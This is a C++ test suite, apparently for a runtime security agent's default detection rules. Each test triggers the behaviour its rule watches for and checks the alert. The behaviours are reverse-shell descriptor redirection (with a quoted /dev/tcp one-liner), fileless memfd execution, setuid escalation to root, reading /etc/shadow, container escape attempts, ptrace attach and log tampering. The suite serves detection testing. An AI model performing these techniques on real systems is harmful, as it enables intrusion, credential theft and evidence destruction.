// The default ruleset (rules/default.yaml) inside a real `vigil agent`: each test performs the
// behaviour a rule is about, for real (inside a runc container where the rule is about
// containers), and expects that rule's alert in the agent's alert file. A benign workload
// raises none. One agent serves the whole suite; every alert is matched by rule and by the pid
// or container of the behaviour, so the tests do not see each other's alerts.
#include <arpa/inet.h>
#include <fcntl.h>
#include <gtest/gtest.h>
#include <linux/bpf.h>
#include <netinet/in.h>
#include <linux/capability.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include <filesystem>
#include <functional>
#include <memory>

#include "privileged/agent_fixture.h"
#include "support/runc_container.h"

namespace {

using namespace vigil::test;
using namespace std::chrono_literals;

class DefaultRules : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    if (::geteuid() != 0) return;
    dir_ = std::make_unique<TempDir>();
    write_text(*dir_ / "agent.yaml", "mode: log\nstate_dir: " + (*dir_ / "state") +
                                         "\nwatch: []\nruntime:\n  enabled: true\n  ring_buffer_mb: 16\n"
                                         "outputs:\n  - type: file\n    path: " + (*dir_ / "alerts.jsonl") + "\n");
    agent_ = std::make_unique<AgentProcess>(*dir_ / "agent.yaml", *dir_ / "state", 900);
  }
  static void TearDownTestSuite() {
    agent_.reset();
    dir_.reset();
  }
  void SetUp() override {
    VIGIL_REQUIRE_ROOT();
    ASSERT_TRUE(agent_ && agent_->ready()) << (agent_ ? agent_->output() : "");
  }

  static std::vector<nlohmann::json> alerts() { return read_json_objects(*dir_ / "alerts.jsonl"); }

  // Waits up to 5 s for an alert of `rule` that `matches`; returns it (null when none came).
  static nlohmann::json wait_for(const std::string& rule, const std::function<bool(const nlohmann::json&)>& matches) {
    const auto until = std::chrono::steady_clock::now() + 5s;
    do {
      for (const auto& alert : alerts())
        if (alert.value("rule", "") == rule && matches(alert)) return alert;
      std::this_thread::sleep_for(50ms);
    } while (std::chrono::steady_clock::now() < until);
    return nullptr;
  }
  static nlohmann::json wait_for_pid(const std::string& rule, pid_t pid) {
    return wait_for(rule, [pid](const nlohmann::json& a) { return a.value("pid", 0) == pid; });
  }
  static nlohmann::json wait_for_container(const std::string& rule, const RuncContainer& container) {
    const std::string id = container.id().substr(0, 12);
    return wait_for(rule, [id](const nlohmann::json& a) { return a.contains("container") && a.dump().find(id) != std::string::npos; });
  }
  static std::string all_alerts() {
    std::string text;
    for (const auto& alert : alerts()) text += alert.dump() + "\n";
    return text;
  }

  static std::unique_ptr<RuncContainer> container(std::vector<std::string> applets = {}) {
    RuncOptions options;
    options.extra_applets = std::move(applets);
    auto started = RuncContainer::start(options);
    if (!started) {
      ADD_FAILURE() << "runc: " << started.error();
      return nullptr;
    }
    return std::move(*started);
  }

  static std::unique_ptr<TempDir> dir_;
  static std::unique_ptr<AgentProcess> agent_;
};

std::unique_ptr<TempDir> DefaultRules::dir_;
std::unique_ptr<AgentProcess> DefaultRules::agent_;

// Runs fn in a forked child that exits with fn's result (0: did what it should); returns the
// child's pid after reaping it, or -1 when it failed.
pid_t in_child(const std::function<int()>& fn) {
  const pid_t pid = ::fork();
  if (pid == 0) ::_exit(fn());
  int status = 0;
  if (::waitpid(pid, &status, 0) != pid || !WIFEXITED(status) || WEXITSTATUS(status) != 0) {
    ADD_FAILURE() << "child " << pid << " status " << status;
    return -1;
  }
  return pid;
}

// A TCP listener on 127.0.0.1 (ephemeral port unless given); closed with the object.
struct LoopbackListener {
  int fd = -1;
  std::uint16_t port = 0;
  explicit LoopbackListener(std::uint16_t wanted = 0) {
    fd = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    int one = 1;
    ::setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
    sockaddr_in addr{};
    addr.sin_family = AF_INET;
    addr.sin_port = htons(wanted);
    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (::bind(fd, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) != 0 || ::listen(fd, 16) != 0) {
      ::close(fd);
      fd = -1;
      return;
    }
    socklen_t len = sizeof(addr);
    ::getsockname(fd, reinterpret_cast<sockaddr*>(&addr), &len);
    port = ntohs(addr.sin_port);
  }
  ~LoopbackListener() {
    if (fd >= 0) ::close(fd);
  }
};

int connect_loopback(std::uint16_t port) {
  int s = ::socket(AF_INET, SOCK_STREAM, 0);
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(port);
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (::connect(s, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) != 0) return -1;
  return s;
}

TEST_F(DefaultRules, ShellInContainer) {
  auto box = container();
  ASSERT_TRUE(box);
  ASSERT_EQ(box->exec({"sh", "-c", "true"}).exit_code, 0);
  auto alert = wait_for_container("Shell in container", *box);
  ASSERT_FALSE(alert.is_null()) << all_alerts();
  EXPECT_EQ(alert["priority"], "Notice");
  EXPECT_EQ(alert["output_fields"]["proc.name"], "sh");
  EXPECT_EQ(alert["output_fields"]["container.id"], box->id().substr(0, 12));
}

TEST_F(DefaultRules, ReverseShell) {
  LoopbackListener listener;
  ASSERT_GE(listener.fd, 0);
  const pid_t pid = in_child([&] {
    int s = connect_loopback(listener.port);
    if (s < 0) return 1;
    // What `bash -i >& /dev/tcp/host/port 0>&1` does before running the shell.
    if (::dup2(s, 0) != 0 || ::dup2(s, 1) != 1) return 2;
    return 0;
  });
  ASSERT_GT(pid, 0);
  auto alert = wait_for_pid("Reverse shell", pid);
  ASSERT_FALSE(alert.is_null()) << all_alerts();
  EXPECT_EQ(alert["priority"], "Critical");
  const std::string connection = alert["output_fields"]["fd.name"];
  EXPECT_NE(connection.find(":" + std::to_string(listener.port)), std::string::npos) << connection;
}

TEST_F(DefaultRules, FilelessExecution) {
  const std::string busybox = read_text("/bin/busybox");
  ASSERT_FALSE(busybox.empty());
  const pid_t pid = ::fork();
  if (pid == 0) {
    int fd = static_cast<int>(::syscall(SYS_memfd_create, "payload", 0));
    if (fd < 0 || ::write(fd, busybox.data(), busybox.size()) != static_cast<ssize_t>(busybox.size())) ::_exit(1);
    const char* argv[] = {"true", nullptr};
    const char* envp[] = {nullptr};
    ::fexecve(fd, const_cast<char* const*>(argv), const_cast<char* const*>(envp));
    ::_exit(2);
  }
  int status = 0;
  ASSERT_EQ(::waitpid(pid, &status, 0), pid);
  ASSERT_TRUE(WIFEXITED(status) && WEXITSTATUS(status) == 0) << status;
  auto alert = wait_for_pid("Fileless execution", pid);
  ASSERT_FALSE(alert.is_null()) << all_alerts();
  EXPECT_NE(alert["output_fields"]["proc.exepath"].get<std::string>().find("memfd:payload"), std::string::npos)
      << alert.dump();
}

TEST_F(DefaultRules, PrivilegeEscalationToRoot) {
  // A non-root process that can still change its uid (CAP_SETUID kept across the switch, as a
  // setuid-root helper or an exploited capability would) makes itself root.
  const pid_t pid = in_child([] {
    if (::prctl(PR_SET_KEEPCAPS, 1) != 0) return 1;
    if (::setresuid(65534, 65534, 65534) != 0) return 2;
    __user_cap_header_struct header{_LINUX_CAPABILITY_VERSION_3, 0};
    __user_cap_data_struct data[2] = {};
    if (::syscall(SYS_capget, &header, data) != 0) return 3;
    data[0].effective |= 1u << CAP_SETUID;  // still permitted thanks to PR_SET_KEEPCAPS
    if (::syscall(SYS_capset, &header, data) != 0) return 3;
    std::this_thread::sleep_for(50ms);  // the first switch reaches the agent before the second
    return ::setuid(0) == 0 ? 0 : 4;
  });
  ASSERT_GT(pid, 0);
  auto alert = wait_for_pid("Privilege escalation to root", pid);
  ASSERT_FALSE(alert.is_null()) << all_alerts();
  EXPECT_EQ(alert["output_fields"]["evt.type"], "setuid");
  EXPECT_EQ(alert["output_fields"]["evt.arg.old_uid"], "65534");
  EXPECT_EQ(alert["output_fields"]["user.uid"], "0");
}

TEST_F(DefaultRules, ReadSensitiveFile) {
  const CommandResult cat = run({"/bin/cat", "/etc/shadow"});
  ASSERT_EQ(cat.exit_code, 0);
  auto alert = wait_for("Read sensitive file", [](const nlohmann::json& a) {
    return a["output_fields"].value("fd.name", "") == "/etc/shadow" && a["output_fields"].value("proc.name", "") == "cat";
  });
  ASSERT_FALSE(alert.is_null()) << all_alerts();
  EXPECT_EQ(alert["priority"], "Warning");
}

// No exec between the directory change and the open: the shell's builtin cd, then a redirect
// by a relative name. The agent follows the chdir, so fd.name is still /etc/shadow.
TEST_F(DefaultRules, ReadSensitiveFileByARelativeNameAfterCd) {
  const CommandResult sh = run({"/bin/sh", "-c", "cd /etc && : < shadow"});
  ASSERT_EQ(sh.exit_code, 0);
  auto alert = wait_for("Read sensitive file", [](const nlohmann::json& a) {
    return a["output_fields"].value("fd.name", "") == "/etc/shadow" && a["output_fields"].value("proc.name", "") == "sh";
  });
  ASSERT_FALSE(alert.is_null()) << all_alerts();
}

TEST_F(DefaultRules, WriteBelowBinaryDirectory) {
  const std::string target = "/usr/local/bin/.vigil-test-" + std::to_string(::getpid());
  const pid_t pid = in_child([&] {
    int fd = ::open(target.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0600);
    if (fd < 0) return 1;
    ::close(fd);
    return 0;
  });
  ::unlink(target.c_str());
  ASSERT_GT(pid, 0);
  auto alert = wait_for_pid("Write below binary or library directory", pid);
  ASSERT_FALSE(alert.is_null()) << all_alerts();
  EXPECT_EQ(alert["output_fields"]["fd.name"], target);
}

TEST_F(DefaultRules, KernelModuleLoad) {
  TempDir dir;
  write_text(dir / "not-a-module.ko", "this is not an ELF module\n");
  const pid_t pid = ::fork();
  if (pid == 0) {
    int fd = ::open((dir / "not-a-module.ko").c_str(), O_RDONLY);
    // Fails (not a module; module loading may be off): the attempt is what the rule reports.
    ::syscall(SYS_finit_module, fd, "", 0);
    ::_exit(0);
  }
  ASSERT_EQ(::waitpid(pid, nullptr, 0), pid);
  auto alert = wait_for_pid("Kernel module load", pid);
  ASSERT_FALSE(alert.is_null()) << all_alerts();
  EXPECT_EQ(alert["output_fields"]["evt.type"], "finit_module");
}

TEST_F(DefaultRules, PtraceAttach) {
  const pid_t target = ::fork();
  if (target == 0) {
    ::pause();
    ::_exit(0);
  }
  const pid_t tracer = in_child([&] {
    if (::ptrace(PTRACE_ATTACH, target, nullptr, nullptr) != 0) return 1;
    ::waitpid(target, nullptr, 0);
    ::ptrace(PTRACE_DETACH, target, nullptr, nullptr);
    return 0;
  });
  ::kill(target, SIGKILL);
  ::waitpid(target, nullptr, 0);
  ASSERT_GT(tracer, 0);
  auto alert = wait_for_pid("Ptrace attach to another process", tracer);
  ASSERT_FALSE(alert.is_null()) << all_alerts();
  EXPECT_EQ(alert["output_fields"]["evt.arg.request"], "PTRACE_ATTACH");
  EXPECT_EQ(alert["output_fields"]["evt.arg.pid"], std::to_string(target));
}

TEST_F(DefaultRules, ConnectionToMiningPoolPort) {
  LoopbackListener listener(3333);
  ASSERT_GE(listener.fd, 0) << "port 3333 busy";
  const pid_t pid = in_child([&] {
    int s = connect_loopback(3333);
    return s >= 0 ? 0 : 1;
  });
  ASSERT_GT(pid, 0);
  auto alert = wait_for_pid("Connection to mining pool port", pid);
  ASSERT_FALSE(alert.is_null()) << all_alerts();
  EXPECT_EQ(alert["output_fields"]["fd.sport"], "3333");
}

TEST_F(DefaultRules, ContainerEscapeAttempts) {
  auto box = container({"mount", "unshare"});
  ASSERT_TRUE(box);
  box->exec({"mount", "-t", "tmpfs", "none", "/tmp"});  // denied (no CAP_SYS_ADMIN): the attempt counts
  auto mount_alert = wait_for("Container escape attempt", [&](const nlohmann::json& a) {
    return a.dump().find(box->id().substr(0, 12)) != std::string::npos && a["output_fields"].value("evt.type", "") == "mount";
  });
  ASSERT_FALSE(mount_alert.is_null()) << all_alerts();
  box->exec({"cat", "/proc/1/root/etc/hostname"});
  auto proc_root_alert = wait_for("Container escape attempt", [&](const nlohmann::json& a) {
    return a.dump().find(box->id().substr(0, 12)) != std::string::npos &&
           a["output_fields"].value("fd.name", "").starts_with("/proc/1/root");
  });
  EXPECT_FALSE(proc_root_alert.is_null()) << all_alerts();
  box->exec({"unshare", "-U", "true"});
  auto unshare_alert = wait_for("Container escape attempt", [&](const nlohmann::json& a) {
    return a.dump().find(box->id().substr(0, 12)) != std::string::npos && a["output_fields"].value("evt.type", "") == "unshare";
  });
  EXPECT_FALSE(unshare_alert.is_null()) << all_alerts();
}

TEST_F(DefaultRules, BpfProgramLoad) {
  const pid_t pid = in_child([] {
    // r0 = 0; exit: the smallest valid program.
    bpf_insn insns[2] = {};
    insns[0].code = BPF_ALU64 | BPF_MOV | BPF_K;
    insns[0].dst_reg = BPF_REG_0;
    insns[1].code = BPF_JMP | BPF_EXIT;
    bpf_attr attr{};
    attr.prog_type = BPF_PROG_TYPE_SOCKET_FILTER;
    attr.insns = reinterpret_cast<std::uint64_t>(insns);
    attr.insn_cnt = 2;
    attr.license = reinterpret_cast<std::uint64_t>("GPL");
    int fd = static_cast<int>(::syscall(SYS_bpf, BPF_PROG_LOAD, &attr, sizeof(attr)));
    if (fd < 0) return 1;
    ::close(fd);
    return 0;
  });
  ASSERT_GT(pid, 0);
  auto alert = wait_for_pid("BPF program load", pid);
  ASSERT_FALSE(alert.is_null()) << all_alerts();
}

TEST_F(DefaultRules, LogTampering) {
  const std::string log = "/var/log/vigil-test-" + std::to_string(::getpid()) + ".log";
  write_text(log, "evidence\n");
  const CommandResult truncate = run({"/bin/sh", "-c", ": > " + log});
  const CommandResult remove = run({"/bin/rm", "-f", log});
  ::unlink(log.c_str());
  ASSERT_EQ(truncate.exit_code, 0);
  ASSERT_EQ(remove.exit_code, 0);
  auto truncated = wait_for("Log tampering", [&](const nlohmann::json& a) {
    return a["output_fields"].value("fd.name", "") == log && a["output_fields"].value("proc.name", "") == "sh";
  });
  EXPECT_FALSE(truncated.is_null()) << all_alerts();
  auto removed = wait_for("Log tampering", [&](const nlohmann::json& a) {
    return a["output_fields"].value("evt.arg.name", "") == log && a["output_fields"].value("proc.name", "") == "rm";
  });
  EXPECT_FALSE(removed.is_null()) << all_alerts();
}

TEST_F(DefaultRules, PackageManagerInContainer) {
  auto box = container({"dpkg"});
  ASSERT_TRUE(box);
  box->exec({"dpkg", "--version"});
  auto alert = wait_for_container("Package manager in container", *box);
  ASSERT_FALSE(alert.is_null()) << all_alerts();
  EXPECT_EQ(alert["output_fields"]["proc.name"], "dpkg");
}

// Everyday work raises nothing: compiling, a shell script, apt-cache, a web server and its clients.
TEST_F(DefaultRules, BenignWorkloadRaisesNoAlert) {
  const std::size_t before = alerts().size();
  TempDir dir;
  write_text(dir / "hello.c", "#include <stdio.h>\nint main(void) { puts(\"hello\"); return 0; }\n");
  ASSERT_EQ(run({"cc", "-O2", "-o", dir / "hello", dir / "hello.c"}).exit_code, 0);
  ASSERT_EQ(run({dir / "hello"}).exit_code, 0);
  write_text(dir / "script.sh", "#!/bin/sh\nset -e\nfor i in 1 2 3; do echo $i > \"$(dirname \"$0\")/out.$i\"; done\nls \"$(dirname \"$0\")\" | wc -l\n");
  ::chmod((dir / "script.sh").c_str(), 0755);
  ASSERT_EQ(run({dir / "script.sh"}).exit_code, 0);
  ASSERT_EQ(run({"apt-cache", "policy", "bash"}).exit_code, 0);
  ASSERT_EQ(run({"apt-cache", "show", "coreutils"}).exit_code, 0);
  ::mkdir((dir / "www").c_str(), 0755);
  write_text(dir / "www/index.html", "<h1>ok</h1>\n");
  const CommandResult web = run_shell(
      "cd " + shell_quote(dir / "www") + " && (python3 -m http.server 0 --bind 127.0.0.1 >" + shell_quote(dir / "web.log") +
          " 2>&1 & echo $! >" + shell_quote(dir / "web.pid") + ") && "
          "for i in $(seq 50); do port=$(sed -n 's/.*port \\([0-9]*\\).*/\\1/p' " + shell_quote(dir / "web.log") +
          "); [ -n \"$port\" ] && break; sleep 0.1; done && "
          "for i in $(seq 20); do python3 -c \"import urllib.request,sys; urllib.request.urlopen('http://127.0.0.1:'+sys.argv[1]+'/').read()\" $port || exit 1; done; "
          "rc=$?; kill $(cat " + shell_quote(dir / "web.pid") + "); exit $rc",
      60);
  EXPECT_EQ(web.exit_code, 0) << web.out << web.err << read_text(dir / "web.log");
  std::this_thread::sleep_for(1s);  // let the agent drain
  const auto after = alerts();
  std::string unexpected;
  for (std::size_t i = before; i < after.size(); ++i) unexpected += after[i].dump() + "\n";
  EXPECT_TRUE(unexpected.empty()) << unexpected;
}

}  // namespace
